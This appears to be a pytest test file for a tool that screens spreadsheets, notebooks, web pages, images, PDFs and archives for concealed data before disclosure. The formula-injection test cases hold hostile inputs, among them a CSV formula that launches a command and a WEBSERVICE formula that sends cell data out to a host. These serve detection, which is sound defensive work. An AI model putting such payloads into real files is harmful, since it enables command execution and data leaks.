"""What is found in files of every type: tables, texts, pictures, and what a person would not see."""

from __future__ import annotations

import base64
import io
import json
from typing import Any

import pytest
from tests.attack.files.hostile import ods, pdf, png, png_chunk, sheet, workbook, zipped

from saferoom.disclosure.files.model import Grid, Opened
from saferoom.disclosure.files.openers import OpenLimits, open_file
from saferoom.disclosure.verdict import Verdict


def opened(name: str, data: bytes | str, **limits: int) -> Opened:
    """Open a file."""
    return open_file(name, data.encode() if isinstance(data, str) else data, OpenLimits(**limits))[1]


def hidden(found: Opened) -> list[str]:
    """Return what is concealed, files inside included."""
    return [thing.what for thing in found.concealed] + [what for *_, inner in found.inner for what in hidden(inner)]


def texts(found: Opened) -> str:
    """Return all texts."""
    return "\n".join(passage.text for passage in found.passages)


def grid(found: Opened) -> Grid:
    """Return the only table."""
    (only,) = found.grids
    return only


# --- delimited text ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"region,n\nNorth,100\n",
        b"region;n\nNorth;100\n",
        b"region\tn\nNorth\t100\n",
        b"region|n\nNorth|100\n",
        b"sep=;\nregion;n\nNorth;100\n",
        b'"region","n"\r\n"North","100"\r\n',
        b"\xef\xbb\xbfregion,n\nNorth,100\n",
        "region,n\nNorth,100\n".encode("utf-16"),
        "region,n\nNorth,100\n".encode("utf-16-le"),
        "region,n\nNorth,100\n".encode("utf-32"),
    ],
)
def test_delimited_text_in_every_usual_form_gives_one_table(data: bytes) -> None:
    found = opened("a.csv", data)
    assert (grid(found).header, grid(found).rows) == (("region", "n"), (("North", "100"),))
    assert not found.concealed
    assert not found.findings


def test_row_numbers_are_those_people_see() -> None:
    assert grid(opened("a.csv", "a,b\nx,1\n")).first_row == 2
    assert grid(opened("a.csv", "1,2\n3,4\n")).first_row == 1


@pytest.mark.parametrize(
    "cell", ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("x")', " =1"]
)
def test_cell_that_a_spreadsheet_would_run_is_concealed(cell: str) -> None:
    found = opened("a.csv", 'region,n\n"' + cell.replace('"', '""') + '",100\n')
    assert [thing.place for thing in found.concealed] == ["row 2, column 1"]


@pytest.mark.parametrize(
    "cell", ["-5", "+1.2e-3", "-0.12*** (0.03)", "-", "+/-", "---", "=", "-12.5%", "- 3", "-inf", "+44 20 7946"]
)
def test_signed_numbers_and_dashes_are_no_formulas(cell: str) -> None:
    assert not opened("a.csv", f"region,n\n{cell},100\n").concealed


def test_more_cells_than_other_rows_are_concealed() -> None:
    assert hidden(opened("a.csv", "a,b\n1,2\n3,4,P001\n5,6\n"))


def test_rows_before_a_limit_are_kept_for_the_screens() -> None:
    found = opened("a.csv", "a,b\n" + "x,1\n" * 1_000, cells=500)
    assert found.findings[0].rule == "too-large"
    assert len(found.grids[0].rows) > 200


# --- workbooks --------------------------------------------------------------------------------------------------


def _book(**change: Any) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    page = book.active
    assert page is not None
    page.title = "Pay"
    for row in (["region", "n", "mean"], ["North", 120, 12.5], ["South", 140, 13.25]):
        page.append(row)
    for name, act in change.items():
        assert name
        act(book, page)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_plain_workbook_gives_its_table_and_hides_nothing() -> None:
    found = opened("a.xlsx", _book())
    assert grid(found) == Grid("sheet 'Pay'", ("region", "n", "mean"), (("North", 120, 12.5), ("South", 140, 13.25)), 2)
    assert not found.concealed
    assert not found.findings


def _hide_row(_: Any, page: Any) -> None:
    page.row_dimensions[3].hidden = True


def _hide_column(_: Any, page: Any) -> None:
    page.column_dimensions["C"].hidden = True


def _zero_width(_: Any, page: Any) -> None:
    page.column_dimensions["B"].width = 0.01


def _comment(_: Any, page: Any) -> None:
    from openpyxl.comments import Comment

    page["B2"].comment = Comment("P001", "x")


def _second(state: str) -> Any:
    def act(book: Any, _: Any) -> None:
        other = book.create_sheet("Other")
        other.append(["id", 1])
        other.sheet_state = state

    return act


def _name(book: Any, _: Any) -> None:
    from openpyxl.workbook.defined_name import DefinedName

    book.defined_names["x"] = DefinedName("x", attr_text='"P001"')


def _no_format(_: Any, page: Any) -> None:
    page["B2"].number_format = ";;;"


def _white(_: Any, page: Any) -> None:
    from openpyxl.styles import Font

    page["B2"].font = Font(color="FFFFFFFF")


def _validation(_: Any, page: Any) -> None:
    from openpyxl.worksheet.datavalidation import DataValidation

    rule = DataValidation(type="list", formula1='"P001,P002"')
    page.add_data_validation(rule)
    rule.add("D1")


def _web(_: Any, page: Any) -> None:
    page["D2"] = '=WEBSERVICE("http://x/?"&A1)'


def _property(book: Any, _: Any) -> None:
    from openpyxl.packaging.custom import StringProperty

    book.custom_doc_props.append(StringProperty(name="ids", value="P001"))


@pytest.mark.parametrize(
    ("act", "what"),
    [
        (_hide_row, "hidden rows (3)"),
        (_hide_column, "hidden columns (C)"),
        (_zero_width, "hidden columns (B)"),
        (_comment, "comments on cells"),
        (_second("hidden"), "a hidden sheet"),
        (_second("veryHidden"), "a sheet hidden so that no menu shows it"),
        (_name, "a defined name"),
        (_no_format, "cells whose format shows nothing (B2)"),
        (_white, "cells whose format shows nothing (B2)"),
        (_validation, "the list or rule of a validation"),
        (_web, "a formula that reaches out of the file"),
        (_property, "custom document properties"),
    ],
)
def test_what_a_workbook_hides_is_found_and_grave(act: Any, what: str) -> None:
    found = opened("a.xlsx", _book(act=act))
    assert (what, Verdict.FAIL) in {(thing.what, thing.severity) for thing in found.concealed}


def test_white_text_on_a_dark_cell_is_visible() -> None:
    def act(_: Any, page: Any) -> None:
        from openpyxl.styles import Font, PatternFill

        page["A1"].font = Font(color="FFFFFFFF")
        page["A1"].fill = PatternFill("solid", fgColor="FF000080")

    assert not hidden(opened("a.xlsx", _book(act=act)))


def test_hidden_row_without_content_hides_nothing() -> None:
    def act(_: Any, page: Any) -> None:
        page.row_dimensions[50].hidden = True

    assert not hidden(opened("a.xlsx", _book(act=act)))


def test_dates_of_a_workbook_are_read_as_dates() -> None:
    def act(_: Any, page: Any) -> None:
        import datetime

        page["D2"] = datetime.date(2020, 1, 2)
        page["D3"] = datetime.datetime(2020, 1, 2, 3, 4)  # noqa: DTZ001 - as spreadsheets keep it

    rows = grid(opened("a.xlsx", _book(act=act))).rows
    assert [row[3] for row in rows] == ["2020-01-02", "2020-01-02 03:04:00"]


@pytest.mark.parametrize(
    ("part", "data", "what"),
    [
        (
            "xl/pivotCache/pivotCacheRecords1.xml",
            b"<x><r><s v='P001'/><n v='12'/></r></x>",
            "all records behind a pivot table",
        ),
        ("xl/pivotCache/pivotCacheDefinition1.xml", b"<x><s v='P001'/></x>", "the categories behind a pivot table"),
        ("xl/connections.xml", b"<x c='Server=db'/>", "a data connection"),
        ("xl/embeddings/oleObject1.bin", b"id,pay\nP001,12\n", "an embedded file or object"),
        ("xl/model/item.data", b"x", "a data model with all its records"),
        ("customXml/item1.xml", b"<x>P001</x>", "custom XML data"),
        ("xl/revisions/revisionLog1.xml", b"<x>P001</x>", "the history of changes"),
        ("docProps/custom.xml", b"<x>P001</x>", "custom document properties"),
        ("xl/strange.bin", b"x", "a part that workbooks do not have"),
    ],
)
def test_part_of_a_workbook_that_nobody_sees_is_concealed(part: str, data: bytes, what: str) -> None:
    found = opened("a.xlsx", workbook(sheet('<row r="1"><c r="A1"><v>100</v></c></row>'), **{part: data}))
    assert what in hidden(found)


def test_records_behind_a_pivot_table_become_a_table_for_the_screens() -> None:
    part = {"xl/pivotCache/pivotCacheRecords1.xml": b"<x><r><s v='P001'/><n v='12'/></r></x>"}
    found = opened("a.xlsx", workbook(sheet(""), **part))
    assert grid(found).rows == (("P001", 12),)


def test_texts_left_over_from_deleted_cells_are_found() -> None:
    strings = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>P001</t></si></sst>'
    found = opened("a.xlsx", workbook(sheet(""), **{"xl/sharedStrings.xml": strings}))
    assert "texts that no cell shows any more (left over from deleted cells)" in hidden(found)
    assert "P001" in texts(found)


def test_cells_under_merged_cells_are_found() -> None:
    rows = '<row r="1"><c r="A1"><v>100</v></c><c r="B1"><v>3</v></c></row>'
    merged = sheet(rows).replace(b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A1:B1"/></mergeCells>')
    assert hidden(opened("a.xlsx", workbook(merged))) == ["cells with content under merged cells"]


@pytest.mark.parametrize(
    "rows",
    [
        '<row r="1"><c r="A1" t="inlineStr"><is><t>a &amp; b</t></is></c><c r="C1"><v>1.5</v></c></row>',
        '<row r="2" spans="1:2" ht="15"><c r="B2" t="b"><v>1</v></c><c r="C2" t="str"><f>A1&amp;"x"</f><v>y</v></c></row>',  # noqa: E501
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="4"><c r="A4"><v>2</v></c></row><row r="900"><c r="B900"/></row>',  # noqa: E501
        '<row r="1" hidden="1"><c r="A1" t="e"><v>#DIV/0!</v></c><c r="A1"><v>7</v></c></row><row/>',
    ],
)
def test_quick_path_and_parser_read_sheets_alike(rows: str) -> None:
    plain = sheet(rows)
    slow = plain.replace(b"<sheetData>", b"<sheetData><!-- not plain -->")
    assert opened("a.xlsx", workbook(plain)) == opened("a.xlsx", workbook(slow))


# --- ODS --------------------------------------------------------------------------------------------------------


def _cell(value: object) -> str:
    return f'<table:table-cell office:value-type="float" office:value="{value}"><text:p>{value}</text:p></table:table-cell>'  # noqa: E501


def test_spreadsheet_gives_its_table_and_what_it_hides() -> None:
    columns = '<table:table-column/><table:table-column table:visibility="collapse"/>'
    rows = (
        "<table:table-row><table:table-cell><text:p>a</text:p></table:table-cell><table:table-cell><text:p>b</text:p>"
        f"</table:table-cell></table:table-row><table:table-row>{_cell(100)}{_cell(120)}</table:table-row>"
        f'<table:table-row table:visibility="collapse">{_cell(3)}<table:table-cell><office:annotation><text:p>P001'
        "</text:p></office:annotation></table:table-cell></table:table-row>"
    )
    found = opened("a.ods", ods(f'<table:table table:name="S">{columns}{rows}</table:table>'))
    assert grid(found).header == ("a", "b")
    assert grid(found).rows == ((100, 120), (3,))
    assert set(hidden(found)) == {"hidden columns", "hidden rows (1)", "comments on cells"}
    assert "P001" in texts(found)


# --- JSON and notebooks -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "header", "rows"),
    [
        ([{"a": 1, "b": 2}, {"a": 3}], ("a", "b"), ((1, 2), (3, None))),
        ({"a": [1, 2], "b": [3, 4]}, ("a", "b"), ((1, 3), (2, 4))),
        ({"columns": ["a"], "index": [0], "data": [[1]]}, ("a",), ((1,),)),
        ({"x": {"n": 1}, "y": {"n": 2}}, ("", "n"), (("x", 1), ("y", 2))),
        ([[1, 2], [3, 4]], (), ((1, 2), (3, 4))),
        ({"n": 3, "mean": 1.5}, ("n", "mean"), ((3, 1.5),)),
        ({"deep": {"er": [{"id": 1}]}}, ("id",), ((1,),)),
        ([{"p": {"age": 3}, "id": 1}], ("p.age", "id"), ((3, 1),)),
    ],
)
def test_tables_of_json_are_found_wherever_they_stand(
    value: Any, header: tuple[str, ...], rows: tuple[Any, ...]
) -> None:
    found = opened("a.json", json.dumps(value))
    assert (grid(found).header, grid(found).rows) == (header, rows)


def test_names_of_json_that_may_be_values_are_not_in_places() -> None:
    found = opened("a.json", json.dumps({"P00123": {"rows": [{"a": 1}]}}))
    assert all("P00123" not in table.place for table in found.grids)


def _notebook(*cells: dict[str, Any], **metadata: Any) -> str:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": list(cells)})


def _code(*outputs: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"cell_type": "code", "source": ["x = 1"], "metadata": {}, "outputs": list(outputs), **more}


def _data(**bundle: Any) -> dict[str, Any]:
    return {
        "output_type": "display_data",
        "metadata": {},
        "data": {key.replace("_", "/", 1): v for key, v in bundle.items()},
    }


@pytest.mark.parametrize(
    ("notebook", "what"),
    [
        (_notebook(_code(_data(**{"application_vnd.plotly.v1+json": {"x": [1]}}))), "data behind an output"),
        (_notebook(_code(_data(application_javascript="x"))), "a script"),
        (_notebook(_code(_data(text_html="<script>x</script>"))), "a script"),
        (
            _notebook(
                {"cell_type": "markdown", "source": "a", "metadata": {}, "attachments": {"a": {"text/plain": "P1"}}}
            ),
            "attachments",
        ),
        (_notebook(widgets={"state": {"a": [1]}}), "the state of widgets"),
        (_notebook(mine={"rows": list(range(200))}), "entries of its own"),
        (_notebook(_code(strange=[1])), "parts that cells do not have"),
        (_notebook(_code({"output_type": "strange", "x": 1})), "an output of an unknown sort"),
    ],
)
def test_what_a_notebook_hides_is_found(notebook: str, what: str) -> None:
    assert any(said.startswith(what) for said in hidden(opened("a.ipynb", notebook)))


def test_notebook_gives_code_outputs_and_pictures_by_their_places() -> None:
    picture = base64.b64encode(png()).decode()
    table = "<table><tr><th>n</th></tr><tr><td>12</td></tr></table>"
    stream = {"output_type": "stream", "name": "stdout", "text": ["a\n", "b"]}
    found = opened(
        "a.ipynb", _notebook(_code(stream, _data(image_png=picture), _data(text_html=table, text_plain="n\n12")))
    )
    assert [(p.place, p.is_code) for p in found.passages] == [("cell 1", True), ("cell 1, output 1", False)]
    assert grid(found).place == "cell 1, output 3, table 1"
    assert len(found.inner[0][2].pictures) == 1
    assert not hidden(found)


# --- pages, text, pictures, drawings, documents -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("page", "what"),
    [
        ("<script>var d = [1]</script>", "a script"),
        ("<p onclick='x()'>a</p>", "a script (on an event)"),
        ("<a href='java\nscript:x'>a</a>", "a script (in a link)"),
        ("<p hidden>P001</p>", "hidden parts of the page"),
        ("<p style='opacity:0'>P001</p>", "hidden parts of the page"),
        ("<p style='COLOR: #fff'>P001</p>", "hidden parts of the page"),
        ("<input type=hidden value=P001>", "hidden parts of the page"),
        ("<!-- P001 -->", "comments in the page's source"),
        ("<img src='https://x/y.png'>", "something loaded from elsewhere"),
        ("<style>@import url(//x)</style>", "something loaded from elsewhere"),
        ("<iframe srcdoc='<p>1'></iframe>", "a page within the page"),
        ("<template><p>P001</p></template>", "a part that is not shown as it stands (template)"),
        ("<td data-rows='P001 12 P002 14 P003 15 P004 1 P005'>", "data in attributes"),
        ("<svg><script>1</script></svg>", "a script"),
        ("<noscript><p>P001</p></noscript>", "a part that is not shown as it stands (noscript)"),
    ],
)
def test_what_a_page_hides_is_found(page: str, what: str) -> None:
    assert what in hidden(opened("a.html", f"<!doctype html><body>{page}</body>"))


def test_hidden_text_of_a_page_reaches_the_screens() -> None:
    found = opened(
        "a.html", "<html><table><tr><td>a</td><td>1</td></tr></table><div hidden><b>P001</b></div>after</html>"
    )
    assert "P001" in texts(found)
    assert "after" in next(p.text for p in found.passages if p.place == "the whole file")
    assert grid(found).rows == (("a", "1"),)


def test_plain_page_hides_nothing() -> None:
    page = "<!doctype html><html><head><title>T</title><style>td {color: red}</style></head><body><p>Mean 12</p></body></html>"  # noqa: E501
    assert not hidden(opened("a.html", page))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.md", "# T\n<div style='display:none'>P001</div>\n"),
        ("a.md", "[//]: # (P001 12)\n"),
        ("a.tex", "a % P001\n"),
        ("a.tex", "\\begin{document}a\\end{document} P001"),
        ("a.txt", "visible\rP001 12 overwritten\nend\n"),
        ("a.py", "x = 1\u202e\n"),
        ("a.log", "ok\u200b\n"),
    ],
)
def test_what_a_text_hides_is_found(name: str, text: str) -> None:
    assert hidden(opened(name, text))


@pytest.mark.parametrize(
    "text",
    [
        "mean 12\n",
        "emoji \U0001f469\u200d\U0001f52c \u2764\ufe0f\n",
        "caf\u00e9\r\n",
        "\x1b[31mred\x1b[0m\n",
        "\u0645\u062a\u0648\u0633\u0637\n",
    ],
)
def test_ordinary_text_hides_nothing(text: str) -> None:
    assert not hidden(opened("a.txt", text))


def test_picture_is_drawn_anew_without_anything_beside_it() -> None:
    found = opened("a.png", png(3, 2, more=png_chunk(b"tEXt", b"Comment\0P001 12")))
    (picture,) = found.pictures
    assert (picture.width, picture.height) == (3, 2)
    assert b"P001" not in picture.clean
    assert "P001 12" in texts(found)
    assert hidden(found) == ["a text beside the picture"]
    assert not hidden(opened("b.png", picture.clean))


def test_colours_under_transparent_pixels_are_found_and_left_out() -> None:
    from PIL import Image

    picture = Image.new("RGBA", (64, 64))
    picture.putdata([(i % 251, i % 13, i % 7, 0) for i in range(64 * 64)])
    out = io.BytesIO()
    picture.save(out, "PNG")
    found = opened("a.png", out.getvalue())
    assert hidden(found) == ["colours under transparent parts of the picture"]
    with Image.open(io.BytesIO(found.pictures[0].clean)) as clean:
        assert clean.convert("RGB").getcolors() == [(64 * 64, (255, 255, 255))]


def test_metadata_of_a_jpeg_is_found_and_left_out() -> None:
    from PIL import Image

    exif = Image.Exif()
    exif[270] = "P001"
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (9, 9, 9)).save(out, "JPEG", exif=exif, comment=b"note")
    found = opened("a.jpg", out.getvalue() + b"more")
    assert set(hidden(found)) >= {
        "metadata of a camera or a program (EXIF, XMP)",
        "further bytes",
        "a comment beside the picture",
    }
    assert b"P001" not in found.pictures[0].clean


@pytest.mark.parametrize(
    ("inside", "what"),
    [
        ("<script>1</script>", "a script"),
        ("<text display='none'>P001</text>", "parts of the drawing that are not visible"),
        ("<desc>P001</desc>", "texts that are not drawn"),
        ("<metadata>P001 12</metadata>", "metadata"),
        ("<image href='https://x/y.png'/>", "something loaded from elsewhere"),
        ("<!-- P001 -->", "comments in the drawing's source"),
        ("<a href='javascript:x'>b</a>", "a script (in a link)"),
        ("<set attributeName='fill' to='red'/>", "an animation, which can show other things later"),
    ],
)
def test_what_a_drawing_hides_is_found(inside: str, what: str) -> None:
    assert what in hidden(opened("a.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><text>a</text>{inside}</svg>'))


@pytest.mark.parametrize(("count", "verdict"), [(20, None), (100, Verdict.REVIEW), (1_500, Verdict.FAIL)])
def test_marks_of_a_drawing_are_counted(count: int, verdict: Verdict | None) -> None:
    found = opened("a.svg", f'<svg xmlns="http://www.w3.org/2000/svg">{"<circle r=" + chr(34) + "1" + chr(34) + "/>" * 1}'  # noqa: E501
                   + '<circle r="1"/>' * (count - 1) + "</svg>")  # fmt: skip
    assert next((f.severity for f in found.findings if f.rule == "many-marks"), None) is verdict


def test_plain_document_gives_its_text_and_hides_nothing() -> None:
    found = opened("a.pdf", pdf())
    assert texts(found).strip() == "Table 1"
    assert not hidden(found)


def test_attachment_of_a_document_is_opened_too() -> None:
    data = pdf(
        "/Names << /EmbeddedFiles << /Names [(a.csv) 6 0 R] >> >>",
        "<< /Type /Filespec /F (a.csv) /EF << /F 7 0 R >> >>",
        "<< /Type /EmbeddedFile /Length 15 >>\nstream\nid,pay\nP001,12\n\nendstream",
    )
    found = opened("a.pdf", data)
    assert [(name, kind) for name, kind, _ in found.inner] == [("a.csv", "csv")]


def test_files_in_an_archive_are_opened_each_by_itself() -> None:
    found = opened("a.zip", zipped({"x/a.csv": b"a,b\n1,2\n", "b.pkl": b"\x80\x04."}))
    assert [(name, kind) for name, kind, _ in found.inner] == [("x/a.csv", "csv"), ("b.pkl", "pickle")]
    assert found.inner[1][2].findings[0].message.startswith("a.zip: b.pkl is a file of records")
